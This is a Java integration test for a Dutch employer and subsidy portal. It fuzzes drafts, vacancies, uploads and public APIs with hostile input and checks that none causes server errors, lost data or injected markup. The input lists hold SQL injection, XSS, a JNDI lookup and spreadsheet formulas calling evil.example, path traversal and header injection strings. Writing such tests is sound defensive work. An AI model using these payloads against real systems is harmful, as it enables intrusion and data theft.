package nl.werkbrug.hostile;

import static nl.werkbrug.support.TestUsers.as;
import static org.assertj.core.api.Assertions.assertThat;

import java.math.BigDecimal;
import java.net.URI;
import java.net.URLEncoder;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.time.Duration;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.List;
import java.util.function.Consumer;
import java.util.function.Supplier;
import java.util.regex.Pattern;

import jakarta.validation.ConstraintViolationException;
import nl.werkbrug.employer.ContractType;
import nl.werkbrug.employer.EmployerOrganisations;
import nl.werkbrug.employer.Vacancies;
import nl.werkbrug.employer.VacancyDetail;
import nl.werkbrug.employer.VacancyDraft;
import nl.werkbrug.identity.PortalUser;
import nl.werkbrug.shared.InvalidInputException;
import nl.werkbrug.subsidies.CoachKind;
import nl.werkbrug.subsidies.SubsidyRequestDetail;
import nl.werkbrug.subsidies.SubsidyRequestForm;
import nl.werkbrug.subsidies.SubsidyRequests;
import nl.werkbrug.subsidies.SubsidyStatus;
import nl.werkbrug.support.IntegrationTest;
import nl.werkbrug.support.TestUsers;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

/**
 * Hostile input (issue 13, "bad input"): a generated set of long, unicode, right-to-left, zero-width, SQL and HTML
 * fragments, spreadsheet formulas, wrong types, huge numbers, impossible dates and oversized or mistyped uploads,
 * driven through the forms' services (subsidy request drafts, vacancies, documents) and, over HTTP against the
 * running test server, through every public API. Every answer must be a result or the domain's refusal (never a
 * server error), a draft that an attempt hit must still be there with what was saved before, and nothing that is
 * served as HTML or JSON-LD may carry executable markup.
 */
@IntegrationTest
class HostileInputTests {

    /** Markup that would run in a browser if it came back unescaped. */
    static final Pattern EXECUTABLE = Pattern.compile("(?i)<script|<svg|<iframe|onerror\\s*=|onload\\s*=|javascript:");

    static final List<String> STRINGS = List.of(
            "", " ", "\t\n\r", "A".repeat(100_000), "é".repeat(5_000), "Jan".repeat(70),
            "\u202Eevil\u202C Jansen", "مرحبا بالعالم", "שלום עולם", "Ja\u200Bn\u200D Jan\u200Csen", "\uFEFFJan",
            "Jan\u0000Jansen", "\u0000", "\uD800", "👩‍👩‍👧‍👦".repeat(200), "Z̸̡̢a̷̛l̴g̶o̸",
            "' OR '1'='1", "'; drop table subsidy_request; --", "1; select pg_sleep(5)", "\" or \"\"=\"",
            "<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "</textarea><svg onload=alert(1)>",
            "<a href=\"javascript:alert(1)\">klik</a>", "<iframe src=//evil.example></iframe>",
            "=HYPERLINK(\"http://evil.example\",\"klik\")", "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3",
            "${jndi:ldap://evil.example/a}", "{{7*7}}", "#{7*7}", "../../../../etc/passwd", "%00%0d%0a",
            "\r\nSet-Cookie: sessie=1", "NaN", "-1", "1e309", "99999999999999999999999999", "0x7fffffff", "null",
            "true", "[]", "{}", "2026-13-45", "31-02-2026", "0000-00-00");

    static final List<BigDecimal> NUMBERS = List.of(new BigDecimal("-1"), BigDecimal.ZERO, new BigDecimal("0.0000000001"),
            new BigDecimal("1E+20"), new BigDecimal("99999999999.99"), new BigDecimal("1E+309"), new BigDecimal("-1E-309"),
            new BigDecimal("123456789012345678901234567890"), new BigDecimal("60.001"), new BigDecimal("100.5"));

    static final List<LocalDate> DATES = List.of(LocalDate.MIN, LocalDate.MAX, LocalDate.of(1, 1, 1),
            LocalDate.of(9999, 12, 31), LocalDate.of(1900, 2, 28), LocalDate.of(2400, 2, 29), LocalDate.of(-5, 6, 1));

    @Autowired
    SubsidyRequests requests;
    @Autowired
    Vacancies vacancies;
    @Autowired
    EmployerOrganisations organisations;
    @LocalServerPort
    int port;

    final Tally tally = new Tally();

    /** What the suite counts; a server error is any answer other than a result or the domain's refusal. */
    static final class Tally {
        int inputs;
        int refused;
        final List<String> serverErrors = new ArrayList<>();
        final List<String> lostDrafts = new ArrayList<>();
        final List<String> injectedMarkup = new ArrayList<>();

        /** Runs one hostile attempt; answers whether it was accepted. */
        boolean attempt(String what, Runnable attempt) {
            inputs++;
            try {
                attempt.run();
                return true;
            } catch (InvalidInputException | ConstraintViolationException
                     | org.springframework.security.access.AccessDeniedException refusal) {
                refused++;
                return false;
            } catch (RuntimeException error) {
                serverErrors.add(what + ": " + error);
                return false;
            }
        }

        /** Stored HTML (a sanitised description) must hold no executable markup at all. */
        void markup(String where, String served) {
            if (EXECUTABLE.matcher(served).find()) {
                injectedMarkup.add(where + ": " + shorten(served));
            }
        }

        /** A page answering a request must not give back the hostile input's markup unescaped. */
        void reflected(String where, String input, String served) {
            if (EXECUTABLE.matcher(input).find() && served.contains(input)) {
                injectedMarkup.add(where + ": " + shorten(served));
            }
        }
    }

    /** A name as kept: the domain stores a blank one as none and may strip the ends. */
    static String stripped(@org.jspecify.annotations.Nullable String text) {
        return text == null ? "" : text.strip();
    }

    static String shorten(String text) {
        return text.length() > 120 ? text.substring(0, 120) + "…" : text;
    }

    PortalUser employer() {
        return TestUsers.employerUser("vijandig-" + System.nanoTime(),
                TestUsers.registeredEmployer(organisations, "99000061", "Vijandige Invoer BV"));
    }

    static SubsidyRequestForm valid() {
        SubsidyRequestForm form = new SubsidyRequestForm();
        form.setEmployeeName("Jan Jansen");
        form.setEmployeeBirthDate(LocalDate.of(1990, 3, 14));
        form.setBsn("111222333");
        form.setContractStart(LocalDate.of(2027, 1, 4));
        form.setContractEnd(LocalDate.of(2028, 1, 3));
        form.setHoursPerWeek(new BigDecimal("32"));
        form.setMonthlyWage(new BigDecimal("2300"));
        form.setCoachKind(CoachKind.EXTERN);
        form.setCoachHoursPerMonth(new BigDecimal("6"));
        return form;
    }

    /** One hostile change to a saved draft; the draft must survive with what was saved before, or what was accepted. */
    void onDraft(PortalUser employer, long id, String what, Consumer<SubsidyRequestForm> change) {
        SubsidyRequestDetail before = as(employer, () -> requests.find("hengelo", id)).orElseThrow();
        SubsidyRequestForm form = valid();
        change.accept(form);
        boolean accepted = tally.attempt("draft " + what, () -> as(employer, () -> requests.saveDraft("hengelo", id, "jobcoaching", form)));
        var after = as(employer, () -> requests.find("hengelo", id));
        if (after.isEmpty() || after.get().status() != SubsidyStatus.CONCEPT) {
            tally.lostDrafts.add(what + ": draft " + id + " gone");
        } else if (!accepted && !java.util.Objects.equals(after.get().employeeName(), before.employeeName())) {
            tally.lostDrafts.add(what + ": a refused save changed the draft");
        } else if (accepted && !stripped(after.get().employeeName()).equals(stripped(form.getEmployeeName()))) {
            tally.lostDrafts.add(what + ": an accepted name was not kept as given");
        }
    }

    void subsidyDrafts() {
        PortalUser employer = employer();
        long id = as(employer, () -> requests.saveDraft("hengelo", null, "jobcoaching", valid())).id();
        for (String text : STRINGS) {
            onDraft(employer, id, "name " + shorten(text), form -> form.setEmployeeName(text));
            onDraft(employer, id, "bsn " + shorten(text), form -> form.setBsn(text));
        }
        for (BigDecimal number : NUMBERS) {
            onDraft(employer, id, "hours " + number, form -> form.setHoursPerWeek(number));
            onDraft(employer, id, "wage " + number, form -> form.setMonthlyWage(number));
            onDraft(employer, id, "coach hours " + number, form -> form.setCoachHoursPerMonth(number));
            onDraft(employer, id, "loonwaarde " + number, form -> form.setLoonwaardePercent(number));
        }
        for (LocalDate date : DATES) {
            onDraft(employer, id, "birth " + date, form -> form.setEmployeeBirthDate(date));
            onDraft(employer, id, "start " + date, form -> form.setContractStart(date));
            onDraft(employer, id, "end " + date, form -> form.setContractEnd(date));
        }
        // wrong types and instruments: a code that does not exist, a hostile one
        for (String code : List.of("bestaat-niet", "' OR 1=1 --", "<script>", "", "A".repeat(5_000))) {
            tally.attempt("instrument " + shorten(code), () -> as(employer, () -> requests.saveDraft("hengelo", null, code, valid())));
        }
        for (String municipality : List.of("nergens", "../hengelo", "hengelo' --", "HENGELO", "")) {
            tally.attempt("municipality " + municipality, () -> as(employer, () -> requests.saveDraft(municipality, id, "jobcoaching", valid())));
        }
        tally.attempt("submit a draft with hostile content", () -> as(employer, () -> requests.submit("hengelo", id)));
        if (as(employer, () -> requests.find("hengelo", id)).isEmpty()) {
            tally.lostDrafts.add("submit: draft " + id + " gone");
        }
    }

    static VacancyDraft vacancy(String title, String description, String isco, BigDecimal hours, String postcode,
                                String place, Integer months, LocalDate start, LocalDate through, String text, int places) {
        return new VacancyDraft(title, description, isco, hours, postcode, place, ContractType.TEMPORARY, months, start,
                through, text, text, text, places, false, false);
    }

    void vacancyForms() {
        PortalUser employer = employer();
        LocalDate soon = LocalDate.now(nl.werkbrug.shared.DutchTime.ZONE).plusMonths(1);
        List<Supplier<VacancyDraft>> drafts = new ArrayList<>();
        for (String text : STRINGS) {
            drafts.add(() -> vacancy(text, "Lassen.", "7212", BigDecimal.TEN, "7554 RR", "Hengelo", 6, soon, soon.plusMonths(1), "", 1));
            drafts.add(() -> vacancy("Lasser", text, "7212", BigDecimal.TEN, "7554 RR", "Hengelo", 6, soon, soon.plusMonths(1), "", 1));
            drafts.add(() -> vacancy("Lasser", "Lassen.", "7212", BigDecimal.TEN, text, text, 6, soon, soon.plusMonths(1), text, 1));
            drafts.add(() -> vacancy("Lasser", "Lassen.", text, BigDecimal.TEN, "7554 RR", "Hengelo", 6, soon, soon.plusMonths(1), "", 1));
        }
        for (BigDecimal number : NUMBERS) {
            drafts.add(() -> vacancy("Lasser", "Lassen.", "7212", number, "7554 RR", "Hengelo", 6, soon, soon.plusMonths(1), "", 1));
        }
        for (int wrong : new int[] {Integer.MIN_VALUE, -1, 0, 1000, Integer.MAX_VALUE}) {
            drafts.add(() -> vacancy("Lasser", "Lassen.", "7212", BigDecimal.TEN, "7554 RR", "Hengelo", wrong, soon, soon.plusMonths(1), "", 1));
            drafts.add(() -> vacancy("Lasser", "Lassen.", "7212", BigDecimal.TEN, "7554 RR", "Hengelo", 6, soon, soon.plusMonths(1), "", wrong));
        }
        for (LocalDate date : DATES) {
            drafts.add(() -> vacancy("Lasser", "Lassen.", "7212", BigDecimal.TEN, "7554 RR", "Hengelo", 6, date, soon, "", 1));
            drafts.add(() -> vacancy("Lasser", "Lassen.", "7212", BigDecimal.TEN, "7554 RR", "Hengelo", 6, soon, date, "", 1));
        }
        for (Supplier<VacancyDraft> draft : drafts) {
            VacancyDraft hostile = draft.get();
            List<VacancyDetail> created = new ArrayList<>();
            // as the form does: the draft's own rules first (the view shows them at the fields), then the service
            tally.attempt("vacancy " + shorten(hostile.toString()), () -> {
                var problems = hostile.problems(LocalDate.now(nl.werkbrug.shared.DutchTime.ZONE), null);
                if (!problems.isEmpty()) {
                    throw new InvalidInputException(problems);
                }
                created.add(as(employer, () -> vacancies.create(hostile)));
            });
            for (VacancyDetail vacancy : created) {
                tally.markup("vacancy " + vacancy.id() + " description", vacancy.descriptionHtml());
            }
        }
    }

    static final byte[] PDF = "%PDF-1.4\n%%EOF\n".getBytes(StandardCharsets.US_ASCII);

    void uploads() {
        PortalUser employer = employer();
        byte[] oversized = new byte[10 * 1024 * 1024 + 1];
        System.arraycopy(PDF, 0, oversized, 0, PDF.length);
        record Upload(String name, byte[] content) {
        }
        List<Upload> uploads = List.of(new Upload("groot.pdf", oversized), new Upload("leeg.pdf", new byte[0]),
                new Upload("pagina.pdf", "<html><script>alert(1)</script></html>".getBytes(StandardCharsets.UTF_8)),
                new Upload("programma.pdf", new byte[] {'M', 'Z', (byte) 0x90, 0, 3, 0}),
                new Upload("factuur.exe", PDF), new Upload("<script>alert(1)</script>.pdf", PDF),
                new Upload("A".repeat(10_000) + ".pdf", PDF), new Upload("../../../etc/passwd", PDF),
                new Upload("fac\u200Btuur\u202Efdp.exe", PDF), new Upload("nul\u0000.pdf", PDF),
                new Upload("=HYPERLINK(\"x\").pdf", PDF), new Upload("", PDF),
                new Upload("plaatje.png", new byte[] {(byte) 0x89, 'P', 'N', 'G'}),
                new Upload("foto.jpg", new byte[] {(byte) 0xFF, (byte) 0xD8}), new Upload("zip.pdf", new byte[] {'P', 'K', 3, 4}));
        long id = 0;
        int onThisDraft = 5;
        for (Upload upload : uploads) {
            if (onThisDraft == 5) { // five documents per request: a fresh draft before the limit
                id = as(employer, () -> requests.saveDraft("hengelo", null, "jobcoaching", valid())).id();
                onThisDraft = 0;
            }
            long draft = id;
            if (tally.attempt("upload " + shorten(upload.name()), () -> as(employer, () ->
                    requests.attach("hengelo", draft, upload.name(), upload.content())))) {
                onThisDraft++;
            }
            if (as(employer, () -> requests.find("hengelo", draft)).isEmpty()) {
                tally.lostDrafts.add("upload " + shorten(upload.name()) + ": draft gone");
            }
        }
    }

    void httpApis() throws Exception {
        HttpClient http = HttpClient.newBuilder().connectTimeout(Duration.ofSeconds(5)).build();
        List<String> paths = new ArrayList<>();
        for (String text : STRINGS) {
            String segment = URLEncoder.encode(text.length() > 2_000 ? text.substring(0, 2_000) : text, StandardCharsets.UTF_8)
                    .replace("+", "%20");
            paths.add("/api/public/catalogue/" + segment);
            paths.add("/api/public/catalogue/hengelo/" + segment);
            paths.add("/api/public/vacancies/" + segment);
            paths.add("/api/public/vacancies?q=" + segment + "&page=" + segment);
            paths.add("/branding/" + segment + ".css");
            paths.add("/branding/" + segment + "/logo");
        }
        for (String number : List.of("-1", "0", "9223372036854775807", "9223372036854775808", "1.5", "1e3", "0x10")) {
            paths.add("/api/public/vacancies/" + number);
        }
        for (String path : paths) {
            tally.inputs++;
            HttpResponse<String> response;
            try {
                response = http.send(HttpRequest.newBuilder(URI.create("http://localhost:" + port + path))
                        .timeout(Duration.ofSeconds(30)).header("Accept", "application/json, text/html;q=0.5").GET().build(),
                        HttpResponse.BodyHandlers.ofString());
            } catch (IllegalArgumentException unsendable) { // the client refuses to send it: nothing reached the server
                continue;
            }
            if (response.statusCode() >= 500) {
                tally.serverErrors.add("GET " + shorten(path) + ": " + response.statusCode());
            } else if (response.statusCode() >= 400) {
                tally.refused++;
            }
            String type = response.headers().firstValue("Content-Type").orElse("");
            if (type.contains("html") || type.contains("css")) {
                for (String text : STRINGS) {
                    tally.reflected("GET " + shorten(path), text, response.body());
                }
            }
        }
    }

    @Test
    void two_hundred_and_more_hostile_inputs_give_no_server_error_lose_no_draft_and_inject_no_markup() throws Exception {
        subsidyDrafts();
        vacancyForms();
        uploads();
        httpApis();

        System.out.printf("%d hostile inputs, %d server errors, %d lost drafts, %d injected markup (%d refused)%n",
                tally.inputs, tally.serverErrors.size(), tally.lostDrafts.size(), tally.injectedMarkup.size(), tally.refused);
        tally.serverErrors.forEach(error -> System.out.println("server error: " + shorten(error)));
        tally.lostDrafts.forEach(lost -> System.out.println("lost draft: " + lost));
        tally.injectedMarkup.forEach(markup -> System.out.println("injected markup: " + markup));
        assertThat(tally.inputs).isGreaterThanOrEqualTo(200);
        assertThat(tally.serverErrors).as("server errors").isEmpty();
        assertThat(tally.lostDrafts).as("lost drafts").isEmpty();
        assertThat(tally.injectedMarkup).as("injected markup").isEmpty();
        assertThat(tally.refused).as("the hostile set is refused, not all accepted").isGreaterThan(100);
    }
}
